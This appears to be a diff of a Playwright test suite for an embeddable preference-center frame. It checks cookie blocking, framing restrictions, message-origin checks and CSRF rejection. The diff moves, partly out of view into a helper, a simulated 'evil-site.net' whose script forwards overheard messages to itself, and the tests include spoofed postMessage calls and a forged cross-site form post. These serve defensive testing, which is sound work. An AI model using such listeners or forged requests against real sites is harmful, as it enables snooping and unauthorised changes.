@@ -1,166 +1,48 @@
 import assert from 'node:assert/strict';
 import { after, before, suite, test } from 'node:test';
-import { SignJWT } from 'jose';
-import type { BrowserContext, Frame, Page } from 'playwright-core';
+import type { Frame, Page } from 'playwright-core';
 import { readForm } from '../kit/form.ts';
 import { standing } from '../kit/moves.ts';
-import { freePorts, type Product, startProduct } from '../kit/product.ts';
+import type { Product } from '../kit/product.ts';
 import { until } from '../kit/until.ts';
-import { axeSource, type Browser, longestWait, openBrowser, openWholeBrowser, shoot } from './browser.ts';
-import { makeCertificate, passTo, serveSites, startDemoSite } from './sites.ts';
+import { axeSource, shoot } from './browser.ts';
+import { center, type FramedSites, frameIn, openOwnFramedSites } from './framed.ts';
 
-const books = 'b00c5000-0000-4000-8000-000000000001';
-const secret = '0HOdeR5ktL2QYJq1MgTpKsYzBgzRDrVZT0Q20dot4ws';
-
-/** Different registrable domains. */
-const names = {
-  sayso: 'preferences.sayso-center.com',
-  shop: 'www.harbour-shop.org',
-  evil: 'evil-site.net',
-} as const;
-
-let port: number;
+let sites: FramedSites;
 let product: Product;
-let browser: Browser;
-/** It blocks the cookies of third parties. */
-let blocking: Browser;
-const closing: (() => Promise<unknown>)[] = [];
-/** What came to the evil site, and what its scripts heard. */
-const heardByEvil: string[] = [];
-
-const origin = (site: keyof typeof names) => `https://${names[site]}:${port}`;
 
 before(async () => {
-  const [demoPort = 0] = await freePorts(1);
-  const certificate = makeCertificate(Object.values(names));
-  const sites = await serveSites(certificate, (host) => {
-    if (host === names.sayso) return passTo(`http://127.0.0.1:${product.env['PORT']}`);
-    if (host === names.shop) return shopSite(passTo(`http://127.0.0.1:${demoPort}`));
-    return host === names.evil ? evilSite : undefined;
-  });
-  port = sites.port;
-  closing.push(sites.close);
-  const demo = await startDemoSite({
-    DEMO_PORT: String(demoPort),
-    DEMO_URL: origin('shop'),
-    SAYSO_URL: origin('sayso'),
-  });
-  closing.push(demo.close);
-  const keys = `http://127.0.0.1:${demoPort}/.well-known/jwks.json`;
-  product = await startProduct({
-    env: {
-      PUBLIC_URL: origin('sayso'),
-    },
-    centers: [
-      {
-        address: books,
-        center: books,
-        embedOrigins: [origin('shop')],
-        linkKeys: [
-          { issuer: origin('shop'), jwksUrl: keys },
-          { issuer: 'https://tests.example', secret },
-        ],
-      },
-    ],
-  });
-  closing.push(() => product[Symbol.asyncDispose]());
-  [browser, blocking] = await Promise.all([openBrowser(), openWholeBrowser()]);
+  // Its record is read from its beginning.
+  sites = await openOwnFramedSites();
+  ({ product } = sites);
 });
 
 after(async () => {
-  await Promise.all([browser?.close(), blocking?.close()]);
-  for (const close of closing.reverse()) await close();
+  await sites?.close();
 });
 
-/** The demo, and a page of ours that stands on the same site. */
-function shopSite(demo: ReturnType<typeof passTo>): ReturnType<typeof passTo> {
-  return (request, response) => {
-    const url = new URL(request.url ?? '/', origin('shop'));
-    if (url.pathname !== '/test') return demo(request, response);
-    response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
-    response.end(url.searchParams.get('html') ?? '');
-  };
-}
-
-/** Frames whatever it is given, sets cookies where it may, and reports every message that its scripts hear. */
-const evilSite: ReturnType<typeof passTo> = (request, response) => {
-  const url = new URL(request.url ?? '/', origin('evil'));
-  if (url.pathname === '/heard') heardByEvil.push(url.search);
-  const script = `<script>addEventListener('message', (event) => fetch('/heard?' + JSON.stringify(event.data)))</script>`;
-  const cookie = request.headers.cookie ?? 'no cookie';
-  response.writeHead(200, {
-    'Content-Type': 'text/html; charset=utf-8',
-    'Set-Cookie': 'third=party; SameSite=None; Secure; Path=/',
-  });
-  response.end(
-    `<!doctype html><title>evil</title><p id="cookie">${cookie}</p>${script}${url.searchParams.get('html') ?? ''}`,
-  );
-};
-
-const inShop = (html: string) => `${origin('shop')}/test?html=${encodeURIComponent(html)}`;
-const inEvil = (html: string) => `${origin('evil')}/?html=${encodeURIComponent(html)}`;
-
-async function openContext(script: boolean, within = browser): Promise<BrowserContext> {
-  const context = await within.newContext({
-    javaScriptEnabled: script,
-    ignoreHTTPSErrors: true,
-    locale: 'en',
-    viewport: { width: 1000, height: 900 },
-    reducedMotion: 'reduce',
-  });
-  context.setDefaultTimeout(longestWait);
-  return context;
-}
-
-function mintTicket(subject: string): Promise<string> {
-  return new SignJWT({ scope: 'manage' })
-    .setProtectedHeader({ alg: 'HS256' })
-    .setIssuer('https://tests.example')
-    .setAudience(books)
-    .setSubject(subject)
-    .setJti(crypto.randomUUID())
-    .setExpirationTime('2m')
-    .sign(new TextEncoder().encode(secret));
-}
-
-async function frameAddress(subject: string): Promise<string> {
-  return `${origin('sayso')}/embed/${books}?ticket=${await mintTicket(subject)}`;
-}
-
-/** The preference center's frame, once it shows a page. */
-async function framedIn(page: Page): Promise<Frame> {
-  await page.locator('iframe').first().waitFor({ state: 'attached' });
-  return until(async () => {
-    const frame = page.frames().find((each) => each.url().startsWith(`${origin('sayso')}/embed/`));
-    return frame !== undefined && (await frame.locator('h1').count()) > 0 && frame;
-  }, 'a frame shows a page');
-}
-
 async function statuses(identifier: string): Promise<Record<string, string | undefined>> {
-  const { purposes } = standing(await product.sandbox.subject(books, identifier));
+  const { purposes } = standing(await product.sandbox.subject(center, identifier));
   return Object.fromEntries(Object.entries(purposes).map(([id, { status }]) => [id, status]));
 }
 
 suite('In a frame of another site, third-party cookies blocked', () => {
   test('cookies are blocked there: a cross-site frame gets none back.', async () => {
-    const context = await openContext(false, blocking);
-    const page = await context.newPage();
-    await page.goto(inShop(`<iframe src="${origin('evil')}/"></iframe>`));
+    const page = await sites.open({ script: false, blocksCookies: true });
+    await page.goto(sites.pageOf(`<iframe src="${sites.evil}/"></iframe>`));
     await page.reload();
     const cookie = page.frameLocator('iframe').locator('#cookie');
     assert.equal(await cookie.textContent(), 'no cookie');
-    await page.goto(`${origin('evil')}/`);
+    await page.goto(`${sites.evil}/`);
     await page.reload();
     assert.equal(await page.locator('#cookie').textContent(), 'third=party', 'at the top it works');
-    await context.close();
   });
 
   test('the whole journey works without any script: choose, save, undo, another language, record, leave.', async () => {
     const identifier = 'jonas@example.org';
-    const context = await openContext(false, blocking);
-    const page = await context.newPage();
-    await page.goto(`${origin('shop')}/account?as=${identifier}&way=frame&lang=en`);
-    let frame = await framedIn(page);
+    const page = await sites.open({ script: false, blocksCookies: true });
+    await page.goto(`${sites.shop}/account?as=${identifier}&way=frame&lang=en`);
+    let frame = await frameIn(page);
     await shoot(page, 'embed-journey-1');
 
     const form = readForm(await frame.content(), 'purpose');
@@ -178,7 +60,7 @@ suite('In a frame of another site, third-party cookies blocked', () => {
     assert.equal((await statuses(identifier))[on.value.toLowerCase()], 'WITHDRAWN');
     await shoot(page, 'embed-journey-2');
 
-    frame = await framedIn(page);
+    frame = await frameIn(page);
     await frame.locator('main form button').click();
     await frame.waitForURL(/\/results\//);
     await frame.locator('.outcomes > .saved').first().waitFor();
@@ -195,22 +77,20 @@ suite('In a frame of another site, third-party cookies blocked', () => {
     await frame.locator('a[href*="/unsubscribe?"]').click();
     await frame.locator('main form button').click();
     await frame.locator('#result').waitFor();
-    const left = await product.sandbox.subject(books, identifier);
+    const left = await product.sandbox.subject(center, identifier);
     assert.deepEqual(
       left.Purposes.filter(({ TransactionStatus }) => TransactionStatus === 'ACTIVE'),
       [],
     );
-    assert.deepEqual(await context.cookies(origin('sayso')), [], 'no cookie was set on the way');
-    assert.equal(page.url().startsWith(origin('shop')), true, 'the site around it never moved');
-    await context.close();
+    assert.deepEqual(await page.context().cookies(sites.sayso), [], 'no cookie was set on the way');
+    assert.equal(page.url().startsWith(sites.shop), true, 'the site around it never moved');
   });
 
   test('the keyboard alone reaches into the frame, switches, and saves.', async () => {
     const identifier = 'salma@example.org';
-    const context = await openContext(false, blocking);
-    const page = await context.newPage();
-    await page.goto(`${origin('shop')}/account?as=${identifier}&way=frame&lang=en`);
-    const frame = await framedIn(page);
+    const page = await sites.open({ script: false, blocksCookies: true });
+    await page.goto(`${sites.shop}/account?as=${identifier}&way=frame&lang=en`);
+    const frame = await frameIn(page);
     const before = await statuses(identifier);
     let switched: string | undefined;
     for (let step = 0; step < 120; step++) {
@@ -230,7 +110,6 @@ suite('In a frame of another site, third-party cookies blocked', () => {
     await page.keyboard.press('Enter');
     await frame.locator('#result').waitFor();
     assert.equal((await statuses(identifier))[switched], 'WITHDRAWN');
-    await context.close();
   });
 });
 
@@ -238,13 +117,12 @@ suite('The script for other sites', () => {
   for (const way of ['element', 'script'] as const) {
     test(`shows the frame by ${way === 'element' ? 'the element' : 'one script tag'}, as high as its content, and tells what happens.`, async () => {
       const identifier = { element: 'new.reader@example.org', script: 'claire@example.org' }[way];
-      const context = await openContext(true);
-      const page = await context.newPage();
+      const page = await sites.open();
       const faults: string[] = [];
       page.on('pageerror', (fault) => faults.push(String(fault)));
       page.on('console', (line) => line.type() === 'error' && faults.push(line.text()));
-      await page.goto(`${origin('shop')}/account?as=${identifier}&way=${way}&lang=en`);
-      const frame = await framedIn(page);
+      await page.goto(`${sites.shop}/account?as=${identifier}&way=${way}&lang=en`);
+      const frame = await frameIn(page);
       await page
         .getByText(/^sayso-ready$/)
         .first()
@@ -277,21 +155,19 @@ suite('The script for other sites', () => {
       await page.getByText(/^sayso-saved$/).waitFor();
       await shoot(page, `embed-${way}`);
       assert.deepEqual(faults, []);
-      await context.close();
     });
   }
 
   test('says that a view has expired or failed, and begins anew with a fresh ticket.', async () => {
-    const context = await openContext(true);
-    const page = await context.newPage();
-    const used = await mintTicket('anna@example.org');
-    const redeemed = await fetch(`http://127.0.0.1:${product.env['PORT']}/embed/${books}?ticket=${used}`, {
+    const page = await sites.open();
+    const used = await sites.ticket('anna@example.org');
+    const redeemed = await fetch(`http://127.0.0.1:${product.env['PORT']}/embed/${center}?ticket=${used}`, {
       redirect: 'manual',
     });
     assert.equal(redeemed.status, 303);
     await page.goto(
-      inShop(`<!doctype html><script src="${origin('sayso')}/embed.js"></script>
-        <sayso-preferences center="${books}" ticket="${used}"></sayso-preferences>
+      sites.pageOf(`<script src="${sites.sayso}/embed.js"></script>
+        <sayso-preferences center="${center}" ticket="${used}"></sayso-preferences>
         <script>heard = []; for (const name of ['ready', 'saved', 'height', 'expired', 'error'])
           document.addEventListener('sayso-' + name, ({ detail }) => heard.push(name, detail.reference));</script>`),
     );
@@ -302,21 +178,19 @@ suite('The script for other sites', () => {
     await page.waitForFunction(`heard.includes('error')`);
     assert.match(String(await page.evaluate(`heard[heard.indexOf('error') + 1]`)), /^[0-9a-f]{10}$/);
     assert.ok(!(await page.evaluate(`heard.includes('ready')`)));
-    const fresh = await mintTicket('anna@example.org');
+    const fresh = await sites.ticket('anna@example.org');
     await page.evaluate(
       `document.querySelector('sayso-preferences').setAttribute('ticket', ${JSON.stringify(fresh)})`,
     );
     await page.waitForFunction(`heard.includes('ready')`);
     assert.equal(await page.locator('iframe').count(), 1);
-    await context.close();
   });
 
   test('the demo asks for one fresh ticket, not for one after the other that has expired when it comes.', async () => {
-    const context = await openContext(true);
-    const page = await context.newPage();
-    const used = await Promise.all(Array.from({ length: 5 }, () => mintTicket('anna@example.org')));
+    const page = await sites.open();
+    const used = await Promise.all(Array.from({ length: 5 }, () => sites.ticket('anna@example.org')));
     for (const ticket of used) {
-      const redeemed = `http://127.0.0.1:${product.env['PORT']}/embed/${books}?ticket=${ticket}`;
+      const redeemed = `http://127.0.0.1:${product.env['PORT']}/embed/${center}?ticket=${ticket}`;
       await fetch(redeemed, { redirect: 'manual' });
     }
     let asked = 0;
@@ -324,7 +198,7 @@ suite('The script for other sites', () => {
       asked += 1;
       await route.fulfill({ json: { ticket: used[asked] } });
     });
-    await page.goto(`${origin('shop')}/account?as=anna@example.org&way=element&lang=en`);
+    await page.goto(`${sites.shop}/account?as=anna@example.org&way=element&lang=en`);
     await page
       .getByText(/^sayso-ready$/)
       .first()
@@ -338,17 +212,17 @@ suite('The script for other sites', () => {
       .waitFor();
     await page.waitForTimeout(1_000);
     assert.equal(asked, 1);
-    await context.close();
   });
 
   test('an open form outlives its half hour: going on renews every address of the page.', async () => {
-    const context = await openContext(true);
-    const page = await context.newPage();
+    const page = await sites.open();
     await page.clock.install();
     await page.goto(
-      inShop(`<iframe src="${await frameAddress('anna@example.org')}" width="900" height="2000"></iframe>`),
+      sites.pageOf(
+        `<iframe src="${await sites.plain('', 'anna@example.org')}" width="900" height="2000"></iframe>`,
+      ),
     );
-    const frame = await framedIn(page);
+    const frame = await frameIn(page);
     const visits = () =>
       frame
         .locator('[href*="v="], [action*="v="]')
@@ -366,22 +240,20 @@ suite('The script for other sites', () => {
     assert.ok(after.length > 5);
     assert.equal(new Set(after).size, 1, 'all the same');
     assert.notEqual(after[0], before);
-    await context.close();
   });
 
   test('hears the preference center alone: what others post is no event.', async () => {
-    const context = await openContext(true);
-    const page = await context.newPage();
-    const ticket = await mintTicket('anna@example.org');
+    const page = await sites.open();
+    const ticket = await sites.ticket('anna@example.org');
     await page.goto(
-      inShop(`<!doctype html><script src="${origin('sayso')}/embed.js"></script>
-        <sayso-preferences center="${books}" ticket="${ticket}"></sayso-preferences>
-        <iframe name="evil" src="${origin('evil')}/"></iframe>
+      sites.pageOf(`<script src="${sites.sayso}/embed.js"></script>
+        <sayso-preferences center="${center}" ticket="${ticket}"></sayso-preferences>
+        <iframe name="evil" src="${sites.evil}/"></iframe>
         <script>heard = []; for (const name of ['ready', 'saved', 'height', 'expired'])
           document.addEventListener('sayso-' + name, (event) => heard.push(name));</script>`),
     );
     await page.waitForFunction(`heard.includes('ready')`);
-    const evil = page.frames().find((frame) => frame.url().startsWith(origin('evil')));
+    const evil = page.frames().find((frame) => frame.url().startsWith(sites.evil));
     await evil?.evaluate(
       `for (const sayso of ['saved', 'expired', 'height']) parent.postMessage({ sayso, height: 9 }, '*')`,
     );
@@ -395,24 +267,22 @@ suite('The script for other sites', () => {
       await page.evaluate(`document.querySelector('sayso-preferences iframe').style.blockSize`),
       '9px',
     );
-    await context.close();
   });
 });
 
 suite('A site that is not listed', () => {
   test('sees nothing: neither by a plain frame, nor by the element, nor around a site that is listed.', async () => {
-    const context = await openContext(true);
-    const page = await context.newPage();
-    const element = `<script src="${origin('sayso')}/embed.js"></script><sayso-preferences center="${books}" ticket="${await mintTicket('anna@example.org')}"></sayso-preferences>`;
-    const around = inShop(`<iframe src="${await frameAddress('anna@example.org')}"></iframe>`);
+    const page = await sites.open();
+    const element = `<script src="${sites.sayso}/embed.js"></script><sayso-preferences center="${center}" ticket="${await sites.ticket('anna@example.org')}"></sayso-preferences>`;
+    const around = sites.pageOf(`<iframe src="${await sites.plain('', 'anna@example.org')}"></iframe>`);
     const tries = [
-      `<iframe src="${await frameAddress('anna@example.org')}"></iframe>`,
+      `<iframe src="${await sites.plain('', 'anna@example.org')}"></iframe>`,
       element,
       `<iframe src="${around}"></iframe>`,
     ];
-    heardByEvil.length = 0;
+    sites.heardByEvil.length = 0;
     for (const html of tries) {
-      await page.goto(inEvil(html));
+      await page.goto(sites.evilPageOf(html));
       await page.locator('iframe').first().waitFor({ state: 'attached' });
       const isBlocked = () => page.frames().some((frame) => frame.url().startsWith('chrome-error://'));
       await until(isBlocked, 'the browser has blocked it');
@@ -420,40 +290,35 @@ suite('A site that is not listed', () => {
         assert.equal(await frame.locator('input.switch').count(), 0, frame.url());
       }
     }
-    assert.deepEqual(heardByEvil, [], 'and hears nothing');
-    await context.close();
+    assert.deepEqual(sites.heardByEvil, [], 'and hears nothing');
   });
 
   test('hears nothing from beside the frame either.', async () => {
-    const context = await openContext(true);
-    const page = await context.newPage();
-    heardByEvil.length = 0;
+    const page = await sites.open();
+    sites.heardByEvil.length = 0;
     await page.goto(
-      inShop(`<!doctype html><iframe src="${origin('evil')}/"></iframe><iframe src="${await frameAddress('anna@example.org')}"></iframe>
+      sites.pageOf(`<iframe src="${sites.evil}/"></iframe><iframe src="${await sites.plain('', 'anna@example.org')}"></iframe>
         <script>heard = []; addEventListener('message', ({ data, origin }) => heard.push([data.sayso, origin]))</script>`),
     );
     await page.waitForFunction('heard.length >= 2');
     const heard = (await page.evaluate('heard')) as [string, string][];
-    assert.deepEqual([...new Set(heard.map(([, from]) => from))], [origin('sayso')]);
+    assert.deepEqual([...new Set(heard.map(([, from]) => from))], [sites.sayso]);
     await page.waitForTimeout(300);
-    assert.deepEqual(heardByEvil, []);
-    await context.close();
+    assert.deepEqual(sites.heardByEvil, []);
   });
 
   test('cannot post a form into it: a forged post from another site changes nothing.', async () => {
-    const context = await openContext(true);
-    const page = await context.newPage();
+    const page = await sites.open();
     await product.sandbox.clearCalls();
     await page.goto(
-      inEvil(
-        `<form method="post" action="${origin('sayso')}/embed/${books}"><input name="token" value="x"><button>Go</button></form>`,
+      sites.evilPageOf(
+        `<form method="post" action="${sites.sayso}/embed/${center}"><input name="token" value="x"><button>Go</button></form>`,
       ),
     );
     await page.locator('button').click();
     await page.locator('h1').waitFor();
     assert.equal(await page.locator('h1').textContent(), 'This came from another site');
     assert.deepEqual(await product.sandbox.calls({ operation: 'update-subject' }), []);
-    await context.close();
   });
 });
 
@@ -465,15 +330,14 @@ suite('A frame that is sandboxed', () => {
   for (const [allowed, heading, isSaved] of cases) {
     test(`with ${allowed} ${isSaved ? 'works' : 'is told why it cannot'}.`, async () => {
       const identifier = isSaved ? 'anna@example.org' : 'boxed@example.org';
-      const context = await openContext(false);
-      const page = await context.newPage();
+      const page = await sites.open({ script: false });
       await product.sandbox.clearCalls();
       await page.goto(
-        inShop(
-          `<iframe sandbox="${allowed}" src="${await frameAddress(identifier)}&lang=en" width="800" height="800"></iframe>`,
+        sites.pageOf(
+          `<iframe sandbox="${allowed}" src="${await sites.plain('', identifier)}&lang=en" width="800" height="800"></iframe>`,
         ),
       );
-      const frame = await framedIn(page);
+      const frame = await frameIn(page);
       const on = frame.locator('input.switch:checked:not(:disabled)').first();
       await frame.locator(`label[for="${await on.getAttribute('id')}"]`).click();
       await frame.locator('button[name="action"][value="save"]').click();
@@ -483,7 +347,6 @@ suite('A frame that is sandboxed', () => {
         (await product.sandbox.calls({ identifier })).some(({ method }) => method !== 'GET'),
         isSaved,
       );
-      await context.close();
     });
   }
 });
